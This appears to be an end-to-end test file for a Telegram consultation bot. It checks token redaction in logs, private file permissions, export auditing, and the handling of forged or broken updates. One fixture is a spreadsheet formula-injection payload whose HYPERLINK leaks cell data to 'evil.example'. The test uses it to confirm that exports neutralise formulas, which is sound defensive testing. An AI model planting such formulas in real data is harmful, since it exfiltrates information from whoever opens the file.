"""End to end: what leaves the system, what a forged or broken update can do, and what the log may hold.

The real `haveyoursay run` process against the fake Bot API (issue 12: exports, control characters,
the token in the log, file modes, export audit, forged feedback, updates the library cannot read).
"""

from __future__ import annotations

import csv
import io
import json
import os
import socket
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest
from openpyxl import load_workbook

from tests.community import join, open_for_years
from tests.e2e_support import EXAMPLES, BotProcess, Resident
from tests.fake_telegram import FakeTelegram

OUT_OF_DATE = "That button is out of date."
# What residents typed: formulas a spreadsheet would run, and characters no spreadsheet can hold.
FORMULA = '=HYPERLINK("http://evil.example/?x="&A2,"click")'
WITH_CONTROLS = "Phones\x00 always\x07 busy\x1b\x0b before nine\r\nand after"
STORED = "Phones always busy before nine\nand after"


def mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


@pytest.fixture
def open_umask() -> Iterator[None]:
    """The usual umask (022), under which files are created readable by everyone unless the bot says otherwise."""
    old = os.umask(0o022)
    try:
        yield
    finally:
        os.umask(old)


# -- 3. the token never reaches the output ---------------------------------------------------


@pytest.mark.parametrize("fault", ["401 wrong token", "404 wrong API path"])
def test_a_refused_token_never_reaches_the_output(fault: str, fake: FakeTelegram, tmp_path: Path) -> None:
    if fault.startswith("401"):
        token = "987654:AAHrefused-by-telegram-0123456789abcdefgh"  # well formed, not the fake's: 401
        process = BotProcess(fake, tmp_path, TELEGRAM_BOT_TOKEN=token)
    else:
        process = BotProcess(fake, tmp_path, TELEGRAM_API_URL=fake.base_url.replace("/bot", "/wrong/bot"))
        token = fake.token
    result = process.command("run")
    output = result.stdout + result.stderr
    assert token.split(":")[1].lower() not in output.lower(), output
    assert result.returncode != 0
    assert "Telegram refused the token: check TELEGRAM_BOT_TOKEN" in result.stderr
    assert "Traceback" not in output, output


def test_a_start_up_crash_is_reported_through_the_redacting_log(fake: FakeTelegram, tmp_path: Path) -> None:
    with socket.socket() as probe:  # a port where nothing listens: the API cannot be reached at all
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    process = BotProcess(fake, tmp_path, TELEGRAM_API_URL=f"http://127.0.0.1:{port}/bot")
    result = process.command("run")
    assert result.returncode == 1
    assert "Have Your Say stopped on an error" in result.stderr
    assert fake.token.split(":")[1].lower() not in (result.stdout + result.stderr).lower()


def test_no_log_line_or_traceback_holds_the_token_while_running(
    bot: BotProcess, fake: FakeTelegram, resident: Resident
) -> None:
    bot.start()
    # A send that fails with an error whose text holds the token, as an HTTP library's error may.
    fake.fail_next("sendMessage", chat_id=resident.chat_id, error_code=400, description=f"Bad Request: {fake.token}")
    fake.send_text(resident.user, "/start")
    fake.wait_until_idle()
    bot.stop()
    log = bot.log()
    assert "Error while handling an update" in log, log
    # python-telegram-bot rewrites the case of error descriptions ("123456:test-token").
    assert fake.token.split(":")[1].lower() not in log.lower(), log


# -- 4. files are private to their owner -----------------------------------------------------


def test_the_database_its_log_and_exports_are_created_private(
    open_umask: None, bot: BotProcess, fake: FakeTelegram, resident: Resident, tmp_path: Path
) -> None:
    bot.import_consultations(open_for_years(EXAMPLES / "gp-opening-hours.yaml", tmp_path))
    assert mode(bot.database) == 0o600, "the database the import created"
    bot.start()
    resident.say("/start", expect="Your privacy")
    files = [bot.database, Path(f"{bot.database}-wal"), Path(f"{bot.database}-shm")]
    assert {path.name: mode(path) for path in files} == {path.name: 0o600 for path in files}
    for file_format in ("csv", "xlsx"):
        result = bot.command("export", "gp-opening-hours", "--format", file_format, "-o", f"out.{file_format}")
        assert result.returncode == 0, result.stderr
        assert mode(tmp_path / f"out.{file_format}") == 0o600
    bot.stop()

    # A database made by an earlier version, readable by all, is made private when opened.
    for path in files:
        if path.exists():
            path.chmod(0o644)
    bot.start()
    resident.say("/help")
    assert {path.name: mode(path) for path in files} == {path.name: 0o600 for path in files}
    stale = tmp_path / "old.csv"
    stale.write_text("x")
    stale.chmod(0o644)
    assert bot.command("export", "gp-opening-hours", "-o", str(stale)).returncode == 0
    assert mode(stale) == 0o600, "an export written over an older file"


# -- 1, 2, 5: what a resident typed leaves the system harmless, and every export is audited ----


def answer_with(resident: Resident, why_hard: str) -> None:
    resident.tap("GP opening hours", expect="Take part")
    resident.tap("Take part", expect="Question 1 of 7")
    resident.tap("In the last week", expect="Question 2 of 7")
    resident.tap("⬜ Saturday", expect="✅ Saturday")
    resident.tap("Done", expect="Question 3 of 7")
    resident.tap("1", expect="Question 4 of 7")
    resident.say(why_hard, expect="Question 5 of 7")
    resident.tap("No", expect="Question 6 of 7")
    resident.tap("Skip", expect="Question 7 of 7")
    resident.tap("Skip", expect="Please check your answers")
    resident.tap("Submit", expect="We have received your answers")


def csv_cells(content: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content)) for cell in row]


def xlsx_cells(content: bytes) -> list[tuple[object, str]]:
    sheet = load_workbook(io.BytesIO(content))["responses"]
    return [(cell.value, cell.data_type) for row in sheet.iter_rows() for cell in row if cell.value is not None]


def test_typed_answers_are_cleaned_at_the_door_and_exports_hold_no_formula_and_are_audited(
    officer_bot: BotProcess, fake: FakeTelegram, admin: Resident, tmp_path: Path
) -> None:
    officer_bot.import_consultations(open_for_years(EXAMPLES / "gp-opening-hours.yaml", tmp_path))
    officer_bot.start()
    answer_with(join(fake, "Amina", "en"), WITH_CONTROLS)
    answer_with(join(fake, "Bea", "en"), FORMULA)

    stored = [json.loads(a)["why_hard"] for (a,) in officer_bot.query("SELECT answers FROM responses")]
    assert sorted(stored) == sorted([STORED, FORMULA]), "exactly what was accepted is stored, whole"
    values = [v for (v,) in officer_bot.query("SELECT value FROM answers WHERE question_id = 'why_hard'")]
    assert sorted(values) == sorted([STORED, FORMULA]), "results read what the answers say"

    # The command line, in both formats.
    assert officer_bot.command("export", "gp-opening-hours", "-o", "out.csv").returncode == 0
    cells = csv_cells((tmp_path / "out.csv").read_text(encoding="utf-8"))
    assert "'" + FORMULA in cells and STORED in cells and FORMULA not in cells
    result = officer_bot.command("export", "gp-opening-hours", "--format", "xlsx", "-o", "out.xlsx")
    assert result.returncode == 0, result.stderr
    excel = xlsx_cells((tmp_path / "out.xlsx").read_bytes())
    assert ("'" + FORMULA, "s") in excel and (STORED, "s") in excel
    assert all(kind != "f" for _, kind in excel), excel

    # The chat: /export gives the CSV, the results' button the workbook.
    admin.say("/export", expect="Which consultation?")
    mark = fake.mark(admin.chat_id)
    admin.tap("GP opening hours", expect="2 responses")
    document = next(m.document for m in fake.messages(admin.chat_id) if m.seq > mark and m.document)
    assert document is not None and document[0] == "gp-opening-hours.csv"
    assert "'" + FORMULA in csv_cells(document[1].decode("utf-8"))
    admin.say("/results", expect="Which consultation?")
    results = admin.tap("GP opening hours", expect="Export as Excel")
    mark = fake.mark(admin.chat_id)
    admin.tap("Export as Excel", on=results)
    document = fake.wait_for_message(admin.chat_id, since=mark, predicate=lambda m: m.document is not None).document
    assert document is not None and document[0] == "gp-opening-hours.xlsx"
    excel = xlsx_cells(document[1])
    assert ("'" + FORMULA, "s") in excel and all(kind != "f" for _, kind in excel)

    audit = admin.say("/audit", expect="Recent officer actions").text.splitlines()[1:]
    exports = [line.split(" · ", 1)[1] for line in audit if " · export · " in line]
    user = os.environ.get("USER") or ""
    assert exports[:2] == [  # the officer by the name Telegram gives
        f"{admin.user.first_name} · export · gp-opening-hours as Excel, 2 responses",
        f"{admin.user.first_name} · export · gp-opening-hours as CSV, 2 responses",
    ], audit
    assert exports[2].startswith("command line · export · gp-opening-hours as Excel, 2 responses, by OS user ")
    assert exports[3].startswith("command line · export · gp-opening-hours as CSV, 2 responses, by OS user ")
    assert user in exports[3]


# -- 7. forged "Did we get this right?" buttons ------------------------------------------------


def test_forged_feedback_buttons_store_nothing(bot: BotProcess, fake: FakeTelegram, tmp_path: Path) -> None:
    bot.import_consultations(open_for_years(EXAMPLES / "gp-opening-hours.yaml", tmp_path))
    bot.start()
    resident = join(fake, "Amina", "en")
    shown = resident.latest_with_buttons()
    for data in ("fb:gp-opening-hours:yes", "fb:no-such-consultation:no"):
        fake.press_stale_button(resident.user, shown, data)
        fake.wait_until_idle()
        assert resident.last_notice() == OUT_OF_DATE
    resident.say("Please call me on 07700 900123")
    assert bot.query("SELECT COUNT(*) FROM outcome_feedback") == [(0,)]
    assert bot.query("SELECT COUNT(*) FROM drafts") == [(0,)]


# -- 14. updates that cannot be handled get one line and, where someone waits, an answer ---------


def test_broken_updates_get_one_log_line_and_an_answer(
    officer_bot: BotProcess, fake: FakeTelegram, admin: Resident
) -> None:
    officer_bot.start()
    answer = admin.say(f"/addofficer {2**64}")
    assert "cannot be a Telegram user id" in answer.text

    # A tap on a button of a message the bot cannot see (an inline message): no message in the query.
    fake.push_raw_update(
        {"callback_query": {"id": "77", "from": admin.user.to_api(), "chat_instance": "1", "data": "card:x"}}
    )
    # Updates python-telegram-bot cannot read; a resident's words inside must not reach the log.
    secret = "my neighbour at number 12 never pays"
    fake.push_raw_update({"message": {"message_id": 1, "date": "yesterday", "text": secret, "chat": {"id": 5}}})
    fake.push_raw_update({"message": secret})
    fake.wait_until_idle()
    assert [a.text for a in fake.callback_answers(admin.user)] == [OUT_OF_DATE]
    # The bot still reads what comes after.
    assert "Your Telegram user id" in admin.say("/myid").text
    officer_bot.stop()

    log = officer_bot.log()
    assert secret not in log and "Traceback" not in log, log
    assert "OverflowError" not in log and "AssertionError" not in log and "CRITICAL" not in log, log
    assert log.count("could not read") == 2, log
    assert all(len(line) < 300 for line in log.splitlines()), log
